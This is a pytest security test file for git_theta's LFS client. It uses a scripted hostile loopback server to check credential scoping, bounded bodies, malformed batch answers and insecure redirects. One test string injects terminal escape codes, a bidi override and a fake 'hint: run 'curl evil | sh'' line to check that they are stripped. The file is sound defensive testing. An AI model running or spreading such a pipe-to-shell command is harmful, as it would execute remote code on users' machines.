"""A hostile LFS server's answers: credentials over a weaker scheme, unbounded bodies, malformed
batch answers, terminal control characters in its messages (issue 13; docs/security.md).

The server is a small scripted HTTP server on 127.0.0.1 (a real one cannot be made to misbehave);
every request it gets is bounded in size and count. The clone test runs real ``git clone``.
"""

import base64
import hashlib
import json
import re
from http.server import BaseHTTPRequestHandler

import pytest
from loopback import isolate_git, serving

from conftest import GitRepo, random_state_dict, save_safetensors
from git_theta.errors import GitThetaError, ObjectCorruptError, RemoteError
from git_theta.remote import endpoint
from git_theta.remote.batch import LfsClient
from git_theta.remote.transfer import Transfer
from git_theta.manifest import ObjectRef
from git_theta.store.objects import ObjectStore
from git_theta.git.repo import Repo
from git_theta.config import Settings

DATA = b"the real object bytes"
REF = ObjectRef(hashlib.sha256(DATA).hexdigest(), len(DATA))
OTHER = b"another object"
OTHER_REF = ObjectRef(hashlib.sha256(OTHER).hexdigest(), len(OTHER))
BIG = 2 << 20  # a "huge" body or batch answer, scaled down: the bound is what is asserted
MAX_REQUEST = 1 << 20  # the server reads no request body larger than this


class _Lfs(BaseHTTPRequestHandler):
    """A scripted LFS server. ``objects``: oid -> bytes it serves and accepts. ``bad``: oid -> a
    function rewriting that object's batch answer; ``payload``: replaces the whole batch answer
    (bytes); ``status``/``message``: an error answer to every batch; ``body``: replaces every
    object body; ``no_length``: bodies without Content-Length (end at close)."""

    protocol_version = "HTTP/1.0"
    objects = {}
    bad = {}
    payload = None
    status = 200
    message = None
    body = None
    no_length = False
    seen = []

    def _base(self):
        return f"http://127.0.0.1:{self.server.server_address[1]}"

    def do_POST(self):
        length = min(int(self.headers.get("Content-Length", 0)), MAX_REQUEST)
        request = json.loads(self.rfile.read(length) or b"{}")
        type(self).seen.append(("POST", self.path, self.headers.get("Authorization")))
        if self.status != 200:
            self._send(self.status, json.dumps({"message": self.message}).encode())
            return
        if self.payload is not None:
            self._send(200, self.payload)
            return
        operation = request.get("operation")
        answers = []
        for item in request.get("objects", []):
            oid = item["oid"]
            answer = {"oid": oid, "size": item["size"]}
            if operation == "upload" or oid in self.objects:
                answer["actions"] = {operation: {"href": f"{self._base()}/obj/{oid}", "header": {"X-Ok": "1"}}}
            if oid in self.bad:
                answer = self.bad[oid](answer, operation, f"{self._base()}/obj/{oid}")
            answers.append(answer)
        self._send(200, json.dumps({"transfer": "basic", "objects": answers}).encode())

    def do_GET(self):
        type(self).seen.append(("GET", self.path, self.headers.get("Authorization")))
        body = self.body if self.body is not None else self.objects.get(self.path.rsplit("/", 1)[-1])
        if body is None:
            self._send(404, b"")
            return
        self.send_response(200)
        if not self.no_length:
            self.send_header("Content-Length", str(len(body)))
        self.end_headers()
        try:
            for start in range(0, len(body), 64 << 10):
                self.wfile.write(body[start : start + (64 << 10)])
        except OSError:
            pass  # the client stopped reading: what this test wants

    def do_PUT(self):
        type(self).seen.append(("PUT", self.path, self.headers.get("Authorization")))
        length = int(self.headers.get("Content-Length", 0))
        data = self.rfile.read(min(length, MAX_REQUEST))
        type(self).objects[hashlib.sha256(data).hexdigest()] = data
        self._send(200, b"")

    def _send(self, status, payload):
        self.send_response(status)
        self.send_header("Content-Length", str(len(payload)))
        self.end_headers()
        self.wfile.write(payload)

    def log_message(self, *args):
        pass


@pytest.fixture
def server(tmp_path, monkeypatch):
    """(handler class, port) of a scripted LFS server on a free loopback port."""
    isolate_git(monkeypatch, tmp_path)
    handler = type("Handler", (_Lfs,), {"objects": {}, "bad": {}, "seen": []})
    with serving(handler) as httpd:
        yield handler, httpd.server_address[1]


def _client(tmp_path, url):
    import subprocess

    if not (tmp_path / "repo").exists():
        subprocess.run(["git", "init", "-q", str(tmp_path / "repo")], check=True)
    return LfsClient(
        endpoint.Endpoint("origin", "http", url=url),
        Repo(tmp_path / "repo"),
        Settings(overrides={"retries": 0}, environ={}),
    )


class _CountingStore(ObjectStore):
    """A real store that also counts the bytes offered to it (what would reach the disk)."""

    offered = 0

    def put_chunks(self, chunks, expect=None, split=True):
        def counted():
            for chunk in chunks:
                self.offered += len(chunk)
                yield chunk

        return super().put_chunks(counted(), expect=expect, split=split)


def _stored(store):
    return {p.name for p in store.root.rglob("*") if p.is_file()}


# -- 1. credentials never go over a weaker scheme -----------------------------------------------
@pytest.mark.parametrize("first_status", [200, 401])
def test_https_endpoint_credentials_never_reach_an_http_href(server, tmp_path, first_status):
    """The endpoint is https://127.0.0.1:PORT; the server answers an href of http:// on the same
    host and port. git-lfs's rule: the endpoint's credentials go to the same scheme, host and port
    only, so the http:// request carries none, not even after a 401."""
    handler, port = server
    handler.objects = {REF.oid: DATA}
    client = _client(tmp_path, f"https://127.0.0.1:{port}/team/m.git/info/lfs")
    client._auth = ("alice", "s3cret")  # as if git credential had answered for the https endpoint
    store = ObjectStore(tmp_path / "objects", fsync=False)
    if first_status == 401:
        handler.objects = {}
        handler.body = None
    try:
        client.download({"href": f"http://127.0.0.1:{port}/obj/{REF.oid}", "header": {}}, REF, store)
    except GitThetaError:
        assert first_status == 401
    assert [auth for _, _, auth in handler.seen] and all(auth is None for _, _, auth in handler.seen)


def test_credentials_still_go_to_the_same_origin(server, tmp_path):
    handler, port = server
    handler.objects = {REF.oid: DATA}
    client = _client(tmp_path, f"http://127.0.0.1:{port}/team/m.git/info/lfs")
    client._auth = ("alice", "s3cret")
    store = ObjectStore(tmp_path / "objects", fsync=False)
    client.download({"href": f"http://127.0.0.1:{port}/obj/{REF.oid}", "header": {}}, REF, store)
    assert handler.seen[0][2] == "Basic " + base64.b64encode(b"alice:s3cret").decode()


# -- 2. bodies are read within their declared size ------------------------------------------------
@pytest.mark.parametrize("no_length", [False, True])
def test_a_huge_body_for_a_small_object_is_not_read(server, tmp_path, no_length):
    """A body of 2 MiB for a 21-byte object: at most the declared size is offered to the store (with
    Content-Length, nothing), and nothing is stored."""
    handler, port = server
    handler.body = DATA + b"x" * BIG
    handler.no_length = no_length
    client = _client(tmp_path, f"http://127.0.0.1:{port}/team/m.git/info/lfs")
    store = _CountingStore(tmp_path / "objects", fsync=False)
    with pytest.raises(ObjectCorruptError, match=REF.oid):
        client.download({"href": f"http://127.0.0.1:{port}/obj/{REF.oid}", "header": {}}, REF, store)
    assert store.offered <= REF.size
    assert not _stored(store)


@pytest.mark.parametrize("no_length", [False, True])
def test_a_huge_batch_answer_is_refused(server, tmp_path, no_length):
    """A valid batch answer padded to 2 MiB for one object is refused at the cap (1 MiB + 64 KiB
    per object), instead of being read and parsed whole."""
    handler, port = server
    handler.no_length = no_length  # (batch answers always declare a length in this server)
    answer = {"objects": [{"oid": REF.oid, "size": REF.size}], "padding": "x" * BIG}
    handler.payload = json.dumps(answer).encode()
    assert len(handler.payload) > (1 << 20) + (64 << 10)  # the documented cap for one object
    client = _client(tmp_path, f"http://127.0.0.1:{port}/team/m.git/info/lfs")
    with pytest.raises(RemoteError, match="bytes"):
        client.batch("download", [REF])


# -- 3. malformed answers fail one object, never the command ---------------------------------------
def _without_actions(answer, op, href):
    return {"oid": answer["oid"], "size": answer["size"]}


def _href_missing(answer, op, href):
    return {**answer, "actions": {op: {"header": {}}}}


def _href_not_string(answer, op, href):
    return {**answer, "actions": {op: {"href": 12}}}


def _header_not_map(answer, op, href):
    return {**answer, "actions": {op: {"href": href, "header": ["Authorization: x"]}}}


def _size_wrong_type(answer, op, href):
    return {**answer, "size": str(answer["size"])}


def _actions_not_map(answer, op, href):
    return {**answer, "actions": [op, href]}


def _error_malformed(answer, op, href):
    return {"oid": answer["oid"], "size": answer["size"], "error": "boom"}


SHAPES = [
    _without_actions,
    _href_missing,
    _href_not_string,
    _header_not_map,
    _size_wrong_type,
    _actions_not_map,
    _error_malformed,
]


def _transfer(repo_path, url):
    r = Repo(repo_path)
    return Transfer(
        r, endpoint.Endpoint("origin", "http", url=url), Settings(overrides={"retries": 0, "transfers": 1}, environ={})
    )


@pytest.mark.parametrize("shape", SHAPES, ids=lambda f: f.__name__.strip("_"))
def test_malformed_download_answer_fails_that_object_only(server, tmp_path, shape):
    handler, port = server
    handler.objects = {REF.oid: DATA, OTHER_REF.oid: OTHER}
    handler.bad = {OTHER_REF.oid: shape}
    _client(tmp_path, "http://unused")  # makes the repository
    with _transfer(tmp_path / "repo", f"http://127.0.0.1:{port}/team/m.git/info/lfs") as transfer:
        with pytest.raises(RemoteError, match=OTHER_REF.oid):
            transfer.download([OTHER_REF, REF])
    store = Repo(tmp_path / "repo").store
    assert store.read(REF.oid, verify=True) == DATA  # the good object arrived all the same
    assert not store.has(OTHER_REF.oid)


@pytest.mark.parametrize("shape", SHAPES[1:], ids=lambda f: f.__name__.strip("_"))
def test_malformed_upload_answer_fails_that_object_only(server, tmp_path, shape):
    handler, port = server
    handler.bad = {OTHER_REF.oid: shape}
    _client(tmp_path, "http://unused")
    store = Repo(tmp_path / "repo").store
    store.put_bytes(DATA), store.put_bytes(OTHER)
    with _transfer(tmp_path / "repo", f"http://127.0.0.1:{port}/team/m.git/info/lfs") as transfer:
        with pytest.raises(RemoteError, match=OTHER_REF.oid):
            transfer.upload([OTHER_REF, REF])
    assert REF.oid in handler.objects and OTHER_REF.oid not in handler.objects


def test_objects_not_a_list_fails_every_object_of_the_batch(server, tmp_path):
    handler, port = server
    handler.payload = json.dumps({"objects": {"oid": REF.oid}}).encode()
    _client(tmp_path, "http://unused")
    with _transfer(tmp_path / "repo", f"http://127.0.0.1:{port}/team/m.git/info/lfs") as transfer:
        with pytest.raises(RemoteError, match="'objects' is not a list"):
            transfer.download([REF, OTHER_REF])


@pytest.mark.parametrize("attack", ["no href", "huge body"])
def test_clone_with_one_bad_answer_checks_out_the_other_files(server, repo, make_repo, attack):
    """``git clone`` of a repository whose committed .lfsconfig names the server: one file's
    objects get an answer without href, or a body 2 MiB longer than the object (streamed without
    Content-Length). The other checkpoint is written; the bad one keeps its manifest with a hint;
    no crash log, no "internal error", nothing of the long body left on disk."""
    handler, port = server
    url = f"http://127.0.0.1:{port}/team/m.git/info/lfs"
    (repo.path / ".lfsconfig").write_text(f'[lfs]\n\turl = "{url}"\n')
    save_safetensors(repo.file("good.safetensors"), random_state_dict(0))
    save_safetensors(repo.file("bad.safetensors"), random_state_dict(1, shapes={"w": (4, 4)}))
    repo.commit("two models", ".lfsconfig", "good.safetensors", "bad.safetensors")
    store = repo.path / ".git" / "theta" / "objects"
    handler.objects = {p.name: p.read_bytes() for p in store.rglob("*") if p.is_file() and len(p.name) == 64}
    from git_theta.manifest import Manifest

    bad = Manifest.parse(repo.show("HEAD:bad.safetensors")).all_objects()
    if attack == "no href":
        handler.bad = {r.oid: _href_missing for r in bad}
    else:
        handler.no_length = True
        handler.objects.update({r.oid: handler.objects[r.oid] + b"x" * BIG for r in bad})
    bare = make_repo("bare.git", init=False)
    bare.git("init", "-q", "--bare")
    repo.git("push", "-q", "--no-verify", str(bare.path), "main")
    repo.theta("install")  # global, as a user has it
    target = repo.path.parent / "clone"
    result = GitRepo(repo.path.parent, repo.env).git("clone", "-q", str(bare.path), str(target), check=False)
    assert "internal error" not in result.stderr and "Traceback" not in result.stderr
    assert result.returncode == 0, result.stderr
    clone = GitRepo(target, repo.env)
    assert clone.file("good.safetensors").read_bytes() == repo.file("good.safetensors").read_bytes()
    assert clone.file("bad.safetensors").read_bytes() == repo.show("HEAD:bad.safetensors")
    assert "bad.safetensors" in result.stderr and "git theta checkout bad.safetensors" in result.stderr
    assert ("href" if attack == "no href" else "the server sent more bytes") in result.stderr
    assert not [p for p in (target / ".git" / "theta" / "objects" / "tmp").rglob("*") if p.is_file()]


# -- 4. server text is quoted, never raw ------------------------------------------------------------
HOSTILE = "\x1b[31mquota exceeded\x1b[0m\nhint: run 'curl evil | sh'\r\x07\u202e"


def _printable(text):
    return not re.search(r"[\x00-\x08\x0b-\x1f\x7f-\x9f\u202a-\u202e]", text)


def test_server_error_message_is_stripped_and_quoted(server, repo):
    handler, port = server
    handler.status, handler.message = 403, HOSTILE
    (repo.path / ".lfsconfig").write_text(f'[lfs]\n\turl = "http://127.0.0.1:{port}/team/m.git/info/lfs"\n')
    save_safetensors(repo.file("m.safetensors"), random_state_dict(0))
    repo.commit("model", ".lfsconfig", "m.safetensors")
    result = repo.theta("push", "origin", check=False)
    assert result.returncode != 0
    assert _printable(result.stderr), repr(result.stderr)
    lines = result.stderr.splitlines()
    assert not any(line.startswith("hint: run") for line in lines), lines
    assert 'the server said "' in result.stderr and "quota exceeded" in result.stderr
    assert "[31m" not in result.stderr  # the whole escape sequence goes, not only its ESC
    assert "failed for object" not in result.stderr  # a refused request is one error, not one per object


def test_per_object_server_error_is_stripped_and_quoted(server, tmp_path):
    handler, port = server

    def hostile(answer, op, href):
        return {"oid": answer["oid"], "size": answer["size"], "error": {"code": 422, "message": HOSTILE}}

    handler.bad = {REF.oid: hostile}
    _client(tmp_path, "http://unused")
    with _transfer(tmp_path / "repo", f"http://127.0.0.1:{port}/team/m.git/info/lfs") as transfer:
        with pytest.raises(RemoteError) as info:
            transfer.download([REF])
    assert _printable(info.value.message) and "\n" not in info.value.message
    assert 'the server said "' in info.value.message


# -- 1b. no redirect from https to http ----------------------------------------------------------
def _tls_wrapper(tmp_path):
    """(socket wrapper, cert path): TLS with a throw-away self-signed certificate for 127.0.0.1."""
    import shutil
    import ssl
    import subprocess

    if shutil.which("openssl") is None:
        pytest.skip("openssl is needed to make a test certificate")
    cert, key = tmp_path / "cert.pem", tmp_path / "key.pem"
    subprocess.run(
        [
            "openssl",
            "req",
            "-x509",
            "-newkey",
            "rsa:2048",
            "-nodes",
            "-days",
            "1",
            "-subj",
            "/CN=127.0.0.1",
            "-addext",
            "subjectAltName=IP:127.0.0.1",
            "-keyout",
            str(key),
            "-out",
            str(cert),
        ],
        check=True,
        capture_output=True,
    )
    context = ssl.SSLContext(ssl.PROTOCOL_TLS_SERVER)
    context.load_cert_chain(cert, key)
    return (lambda sock: context.wrap_socket(sock, server_side=True)), cert


def test_a_redirect_from_https_to_http_is_refused(server, tmp_path, monkeypatch):
    """The https object URL redirects to http:// (the plain server): git-lfs refuses that
    ("refusing insecure redirect"), and so do we: the http server never gets a request."""
    plain, plain_port = server
    plain.objects = {REF.oid: DATA}

    class Hop(BaseHTTPRequestHandler):
        def do_GET(self):
            self.send_response(302)
            self.send_header("Location", f"http://127.0.0.1:{plain_port}/obj/{REF.oid}")
            self.send_header("Content-Length", "0")
            self.end_headers()

        def log_message(self, *args):
            pass

    wrap, cert = _tls_wrapper(tmp_path)
    with serving(Hop, wrap) as httpd:
        port = httpd.server_address[1]
        client = _client(tmp_path, f"https://127.0.0.1:{port}/team/m.git/info/lfs")
        client._verify = str(cert)  # what http.sslCAInfo would give (it wins over REQUESTS_CA_BUNDLE)
        client._auth = ("alice", "s3cret")
        store = ObjectStore(tmp_path / "objects", fsync=False)
        with pytest.raises(RemoteError, match="insecure redirect"):
            client.download({"href": f"https://127.0.0.1:{port}/hop", "header": {}}, REF, store)
        assert plain.seen == [] and not _stored(store)


def test_netrc_credentials_never_reach_an_http_href_of_an_https_endpoint(server, tmp_path):
    """requests reads ~/.netrc by host name alone: a login for the https endpoint's host must not
    go to an http:// href the server names on that host."""
    handler, port = server
    handler.objects = {REF.oid: DATA}
    netrc = tmp_path / ".netrc"  # HOME is tmp_path (the fixture)
    netrc.write_text("machine 127.0.0.1 login alice password s3cret\n")
    netrc.chmod(0o600)
    client = _client(tmp_path, f"https://127.0.0.1:{port}/team/m.git/info/lfs")
    store = ObjectStore(tmp_path / "objects", fsync=False)
    client.download({"href": f"http://127.0.0.1:{port}/obj/{REF.oid}", "header": {}}, REF, store)
    assert store.read(REF.oid, verify=True) == DATA
    assert handler.seen and all(auth is None for _, _, auth in handler.seen)
